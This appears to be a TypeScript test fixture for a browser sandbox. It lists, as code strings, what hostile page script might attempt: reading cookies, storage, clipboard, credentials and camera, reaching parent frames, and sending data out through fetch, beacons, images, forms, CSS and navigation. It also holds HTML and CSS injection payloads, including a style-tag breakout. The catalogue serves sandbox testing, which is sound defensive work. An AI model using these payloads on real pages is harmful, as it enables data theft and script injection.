/**
 * What hostile JavaScript in a page tries to read or to do, by what it is after; each is an expression that gives
 * something, or a promise of something, only if it got it.
 */
export const reads = {
  cookies: 'document.cookie',
  cookieStore: 'cookieStore.getAll().then(() => 1)',
  localStorage: 'localStorage.length + 1',
  sessionStorage: 'sessionStorage.length + 1',
  database: 'opened(indexedDB.open("x"))',
  databases: 'indexedDB.databases().then(() => 1)',
  caches: 'caches.keys().then(() => 1)',
  files: 'navigator.storage.getDirectory()',
  storageAccess: 'document.requestStorageAccess().then(() => 1)',
  origin: 'origin === "null" ? "" : origin',
  domain: '(document.domain = location.hostname || "127.0.0.1")',
  parentDocument: 'parent.document',
  topDocument: 'top.document',
  parentStorage: 'parent.localStorage',
  topStorage: 'top.localStorage',
  topSession: 'top.sessionStorage',
  topAddress: 'top.location.href',
  parentAddress: 'parent.location.href',
  topName: 'top.name',
  topHistory: 'top.history.length',
  topFetch: 'top.fetch',
  framesOfTop: 'top.frames[0].document',
  ownFrame: 'frameElement',
  opener: 'window.opener',
  referrer: 'document.referrer',
  clipboard: 'navigator.clipboard.readText()',
  clipboardByCommand: 'document.execCommand("paste")',
  place: 'new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))',
  camera: 'navigator.mediaDevices.getUserMedia({ video: true })',
  screen: 'navigator.mediaDevices.getDisplayMedia({ video: true })',
  notifications: 'Notification.requestPermission().then((answer) => answer === "granted")',
  filePicker: 'showOpenFilePicker()',
  credentials: 'navigator.credentials.get({ password: true })',
  wholeScreen: 'document.documentElement.requestFullscreen().then(() => 1)',
  popup: 'window.open(out("popup"))',
  popupInTop: 'window.open(out("popupInTop"), "_top")',
  confirmation: 'confirm("?")',
  question: 'prompt("?", "yes")',
  peers: 'typeof RTCPeerConnection === "undefined" ? "" : RTCPeerConnection',
  peersOfAFrame: 'appended("iframe").contentWindow.RTCPeerConnection',
  scriptOfItsOwn: '(appended("script", { textContent: "window.ran = 1" }), window.ran)',
  handler:
    '(appended("p", { innerHTML: "<b onclick=window.ran=1>x</b>" }).firstChild.click(), window.ran)',
  scriptAddress: '(appended("a", { href: "javascript:window.ran=1" }).click(), window.ran)',
  evaluation: 'eval("1")',
  worker: 'answered(new Worker(blobOf("postMessage(1)")))',
  sharedWorker:
    'answered(new SharedWorker(blobOf("onconnect=(e)=>e.ports[0].postMessage(1)")).port)',
  serviceWorker: 'navigator.serviceWorker.register("/service-worker.js")',
  blobFrame:
    'answered(window, appended("iframe", { src: blobOf("<script>parent.postMessage(1,\'*\')<\\/script>", "text/html") }))',
  dataFrame:
    'answered(window, appended("iframe", { src: "data:text/html,<script>parent.postMessage(1,\'*\')<\\/script>" }))',
  writtenFrame:
    'answered(window, appended("iframe", { srcdoc: "<script>parent.postMessage(1,\'*\')<\\/script>" }))',
} as const;

/** What it tries to send elsewhere, or to have fetched from there; `out` gives an address there. */
export const sends = {
  fetch: 'fetch(out("fetch"))',
  fetchWithoutAnswer:
    'fetch(out("fetchWithoutAnswer"), { mode: "no-cors", method: "POST", body: "x" })',
  fetchThatStays: 'fetch(out("fetchThatStays"), { keepalive: true })',
  fetchFromUs: 'fetch(own("fetchFromUs"), { credentials: "include" })',
  request: 'asked(new XMLHttpRequest(), out("request"))',
  requestAtOnce: 'asked(new XMLHttpRequest(), out("requestAtOnce"), false)',
  requestToUs: 'asked(new XMLHttpRequest(), own("requestToUs"))',
  socket: 'new WebSocket(out("socket").replace("http", "ws"))',
  transport: 'new WebTransport(out("transport").replace("http:", "https:"))',
  events: 'new EventSource(out("events"))',
  beacon: 'navigator.sendBeacon(out("beacon"), "x")',
  beaconToUs: 'navigator.sendBeacon(own("beaconToUs"), "x")',
  later: 'fetchLater(out("later"), { activateAfter: 0 })',
  image: 'new Image().src = out("image")',
  imageOfOurs: 'new Image().src = own("imageOfOurs")',
  imageSet: 'appended("img", { srcset: out("imageSet") + " 1x" })',
  video: 'appended("video", { src: out("video") })',
  poster: 'appended("video", { poster: out("poster") })',
  audio: 'new Audio(out("audio")).load()',
  object: 'appended("object", { data: out("object") })',
  embed: 'appended("embed", { src: out("embed") })',
  frame: 'appended("iframe", { src: out("frame") })',
  frameOfOurs: 'appended("iframe", { src: own("frameOfOurs") })',
  frameWithImage: 'appended("iframe", { srcdoc: "<img src=" + out("frameWithImage") + ">" })',
  frameThatLeaves:
    'appended("iframe", { srcdoc: "<meta http-equiv=refresh content=\'0;url=" + out("frameThatLeaves") + "\'>" })',
  frameWithPeers: 'appended("iframe", { srcdoc: "<script>(" + call + ")()<\\/script>" })',
  script: 'appended("script", { src: out("script") })',
  moduleScript: 'appended("script", { type: "module", src: out("moduleScript") })',
  module: 'import(out("module"))',
  workerScript: 'new Worker(blobOf("importScripts(\'" + out("workerScript") + "\')"))',
  styleSheet: 'appended("link", { rel: "stylesheet", href: out("styleSheet") })',
  importedStyle: 'appended("style", { textContent: "@import url(" + out("importedStyle") + ")" })',
  background: 'document.body.style.background = "url(" + out("background") + ")"',
  cursor: 'document.body.style.cursor = "url(" + out("cursor") + "), auto"',
  contentOfStyle:
    'appended("style", { textContent: "p::before{content:url(" + out("contentOfStyle") + ")}" })',
  font: 'new FontFace("x", "url(" + out("font") + ")").load()',
  fontOfStyle:
    'appended("style", { textContent: "@font-face{font-family:y;src:url(" + out("fontOfStyle") + ")}body{font-family:y}" })',
  svgImage: 'appended("p", { innerHTML: "<svg><image href=" + out("svgImage") + "></svg>" })',
  svgUse: 'appended("p", { innerHTML: "<svg><use href=" + out("svgUse") + "#a></svg>" })',
  prefetch: 'appended("link", { rel: "prefetch", href: out("prefetch") })',
  preload: 'appended("link", { rel: "preload", as: "image", href: out("preload") })',
  modulePreload: 'appended("link", { rel: "modulepreload", href: out("modulePreload") })',
  connection: 'appended("link", { rel: "preconnect", href: out("connection") })',
  name: 'appended("link", { rel: "dns-prefetch", href: out("name") })',
  prerender: 'appended("link", { rel: "prerender", href: out("prerender") })',
  speculation:
    'appended("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [out("speculation")] }] }) })',
  manifest: 'appended("link", { rel: "manifest", href: out("manifest") })',
  icon: 'appended("link", { rel: "icon", href: out("icon") })',
  download: 'appended("a", { href: "data:text/plain,x", download: "x.txt" }).click()',
  form: 'appended("form", { method: "post", action: out("form") }).submit()',
  formToUs: 'appended("form", { method: "post", action: own("formToUs") }).submit()',
  formInTop: 'appended("form", { action: out("formInTop"), target: "_top" }).submit()',
  linkInTop: 'appended("a", { href: out("linkInTop"), target: "_top" }).click()',
  linkApart: 'appended("a", { href: out("linkApart"), target: "_blank" }).click()',
  topAway: 'top.location = out("topAway")',
  parentAway: 'parent.location.replace(out("parentAway"))',
  base: 'appended("base", { href: out("base") })',
  dialog: 'alert("x")',
  printing: 'print()',
  back: 'history.back()',
  farBack: 'history.go(-2)',
  ourFrame: 'parent.postMessage({ page: "<h1>taken</h1>", number: 1, title: "x" }, "*")',
  ourPage: 'top.postMessage({ isReady: true, drawn: 1, page: "x" }, "*")',
} as const;

/** Ways in which it leaves its page; each ends what else runs there. */
export const departures = {
  address: 'location = out("address")',
  addressOfOurs: 'location = own("addressOfOurs")',
  replaced: 'location.replace(out("replaced"))',
  link: 'appended("a", { href: out("link") }).click()',
  linkOfOurs: 'appended("a", { href: own("linkOfOurs") }).click()',
  ping: 'appended("a", { href: "#x", ping: out("ping") }).click()',
  refreshed: 'appended("meta", { httpEquiv: "refresh", content: "0;url=" + out("refreshed") })',
  opened: 'window.open(out("opened"), "_self")',
  reloaded: 'location.reload()',
  scriptAddress: 'location = "javascript:fetch(\'" + out("scriptAddress") + "\')"',
} as const;

/** CSS that asks for something elsewhere, or ends where it stands. */
export const styles = (out: (name: string) => string): string => `
@import url(${out('cssImport')});
@font-face { font-family: z; src: url(${out('cssFont')}) }
body { font-family: z; background: url(${out('cssBackground')}) }
h1 { list-style: url(${out('cssList')}); mask: url(${out('cssMask')}); filter: url(${out('cssFilter')}#a) }
h1::after { content: url(${out('cssContent')}); border-image: url(${out('cssBorder')}) 1 }
</style><script>fetch('${out('cssScript')}')</script><style>
`;

/** HTML that asks for something elsewhere, or runs. */
export const markup = (out: (name: string) => string): string => `
<h1>Prijzen</h1>
<img src="${out('htmlImage')}" onerror="fetch('${out('htmlHandler')}')">
<script>fetch('${out('htmlScript')}')</script>
<iframe src="${out('htmlFrame')}"></iframe>
<link rel="stylesheet" href="${out('htmlStyle')}">
<meta http-equiv="refresh" content="0;url=${out('htmlRefresh')}">
<base href="${out('htmlBase')}">
<object data="${out('htmlObject')}"></object>
<form action="${out('htmlForm')}"><button autofocus onfocus="this.form.submit()">x</button></form>
`;
